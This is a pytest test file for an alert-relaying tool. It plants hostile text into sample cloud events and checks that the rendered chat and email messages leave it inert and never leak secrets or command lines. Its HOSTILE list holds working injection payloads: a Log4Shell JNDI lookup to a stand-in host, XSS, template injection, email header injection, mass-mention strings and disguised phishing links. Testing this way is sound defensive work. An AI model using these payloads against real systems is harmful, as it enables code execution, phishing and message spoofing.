"""What an attacker could write into an event shows what it is in every channel, and does nothing.

Text is planted into the fields of the sample events, one field at a time: all of it at once behind what the field
holds, and one piece of it, in turn, instead of what the field holds.
"""

from __future__ import annotations

import copy
import json
from itertools import cycle
from typing import TYPE_CHECKING, Any

import pytest

from hinomi.config import LOCALES
from hinomi.envelope import open_envelope
from hinomi.normalize import normalize
from hinomi.render import MACHINE
from support.custom import CUSTOM
from support.messages import activity_flaws, character_flaws, flaws, rows, size_flaws
from support.samples import EVENTS, alerts_in, cases, elsewhere, tell

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator
    from pathlib import Path

    from hinomi.model import Alert, Message

HOSTILE = (
    "<!channel> <!here> <!subteam^S1> <@U0>",
    "<https://evil.example/login|Open in AWS console>",
    "[Open in AWS console](https://evil.example) ![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "https://evil.example",
    "\\evil.example",
    "www.evil.example evil.com //evil.example/x",
    "mailto:a@evil.example a@evil.example javascript:alert(1)",
    "`code` ```block``` ~~gone~~ ~gone~",
    "*bold* **bold** _italic_ __bold__",
    "# title",
    "> quote",
    "| a | b |",
    "    indented\n\tindented",
    "@everyone @here @channel @all <at>everyone</at>",
    "\u202egnp.exe\u2066\u200b\u00ad\ufeff",
    "\x1b[31mred \x1b]8;;https://evil.example\x07here\x1b]8;;\x07 \x9b2J\x00\x08",
    "x\r\nBcc: victim@evil.example\r\n\r\nx",
    "x\u2028Bcc: victim@evil.example\x85x",
    "{{7777*7777}} {% raw %} #{7777*7777}",
    "${jndi:ldap://evil.example/x}",
    "%s%n%(account)s {0} {alert} {resource.id} {what!r}",
    "&lt;!channel&gt; &#60;https://evil.example&#62;",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <!-- -->",
    '"}],"blocks":[{"type":"section"}],"x":[{"y":"\\',
    "ht\u200btps://evil\u200b.example",
    "\ud800",
)
PRODUCT = "60481729"  # what a template engine would make of 7777*7777
KEY = "AKIAIOSFODNN7EXAMPLE"
ALL = "\n".join((KEY, *HOSTILE))
COMMAND = "--password=correct-horse-battery"
KEYS_ARE_DATA = {"tags", "affectedresources", "alarmtags", "dimensions", "attributes"}
SECRETS = ("commandLineExample", "commandLine", "cmd_line", "Password", "secretString", "sessionToken")

each_file = pytest.mark.parametrize("file", cases(EVENTS))


def places(value: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[Any, Any, tuple[str, ...]]]:
    """List container, key and path of every text within a JSON value; members of one list share a path."""
    for key, one in value.items() if isinstance(value, dict) else enumerate(value):
        here = (*path, key if isinstance(key, str) else "*")
        if isinstance(one, str):
            yield value, key, here
        elif isinstance(one, dict | list):
            yield from places(one, here)


def variants(event: dict[str, Any], planted: Iterable[str], *, instead: bool) -> Iterator[dict[str, Any]]:
    """Yield the event once for each text in it, or for each line of one, with the next of `planted` in that place.

    The event is changed in place: a variant lasts until the next is asked for.
    """
    values = cycle(planted)
    for container, key, _ in places(event):
        original = container[key]
        lines = original.split("\n")
        for number, line in enumerate(lines):
            value = next(values)
            container[key] = "\n".join([*lines[:number], value if instead else f"{line} {value}", *lines[number + 1 :]])
            yield event
        container[key] = original


def alerts_of(event: dict[str, Any]) -> Iterator[Alert]:
    for opened in open_envelope(copy.deepcopy(event)):
        yield from normalize(opened, CUSTOM)


def messages(event: dict[str, Any], *locales: str) -> Iterator[Message]:
    for alert in alerts_of(event):
        yield from tell(alert, locales=locales)


def harm(message: Message) -> list[str]:
    """Say what in a message does something, tells a secret, or pretends to be a part of it."""
    told = rows(message)
    return [
        *activity_flaws(message),
        *character_flaws(message),
        *size_flaws(message),
        *(f"evaluated: {row!r}" for row in told if PRODUCT in row),
        *(f"a key in full: {row!r}" for row in told if KEY in row),
        *(f"a header: {row!r}" for row in message.subject.splitlines()[1:]),
    ]


def tried() -> list[Any]:
    """List the sample events of which each has a field that none before it has: a dozen of a kind show no more."""
    known: set[tuple[str, ...]] = set()
    chosen = []
    for case in cases(EVENTS):
        fields = {path for _, _, path in places(json.loads(case.values[0].read_text("utf-8")))}
        if fields - known:
            chosen.append(case)
        known |= fields
    return chosen


@pytest.mark.parametrize("file", [case for case in cases(EVENTS, *elsewhere()) if "hostile" in str(case.id)])
def test_a_hostile_sample_is_neutralized(file: Path) -> None:
    told = [message for alert in alerts_in(file) for message in tell(alert)]
    assert told
    assert [flaw for message in told for flaw in (*flaws(message), *harm(message))] == []


@pytest.mark.parametrize("file", tried())
@pytest.mark.parametrize("planted", [(ALL,), HOSTILE], ids=["behind", "instead"])
def test_nothing_planted_is_active(file: Path, planted: tuple[str, ...]) -> None:
    event = json.loads(file.read_text("utf-8"))
    locale = cycle(LOCALES)
    found = {
        flaw
        for variant in variants(event, planted, instead=len(planted) > 1)
        for message in messages(variant, next(locale))
        for flaw in harm(message)
    }
    assert found == set()


@each_file
def test_hostile_text_in_all_fields_is_carried_within_every_limit(file: Path) -> None:
    event = json.loads(file.read_text("utf-8"))
    (source,) = {alert.source for alert in alerts_of(event)}
    for container, key, _ in list(places(event)):
        original, container[key] = container[key], f"{container[key]} {ALL}"
        if {alert.source for alert in alerts_of(event)} != {source}:
            container[key] = original  # it decides what the event is
    found = [flaw for message in messages(event, *LOCALES) for flaw in (*flaws(message), *harm(message))]
    # `{alert}` is not left open by us: it is planted.
    assert [flaw for flaw in found if not flaw.startswith("an absent value")] == []


def test_a_hostile_key_is_as_harmless_as_a_value() -> None:
    event = {"detail-type": "x", "source": "example", "detail": {value: [{value: 1}] for value in HOSTILE}}
    assert [flaw for message in messages(event, *LOCALES) for flaw in harm(message)] == []


@each_file
def test_a_command_line_or_secret_is_never_told(file: Path) -> None:
    event = json.loads(file.read_text("utf-8"))
    for part in [event, *mappings(event)]:
        part.update(dict.fromkeys(SECRETS, COMMAND))
    told = [*messages(event, *LOCALES), *(m for alert in alerts_of(event) for m in tell(alert, channels=[MACHINE]))]
    assert told
    assert [message.channel for message in told if COMMAND in message.body] == []


def mappings(value: Any) -> Iterator[dict[str, Any]]:
    """List the JSON objects within a JSON value, but for those whose keys are data (tags, dimensions of a metric)."""
    for key, one in value.items() if isinstance(value, dict) else enumerate(value):
        if isinstance(one, dict) and str(key).lower() not in KEYS_ARE_DATA:
            yield one
        if isinstance(one, dict | list):
            yield from mappings(one)
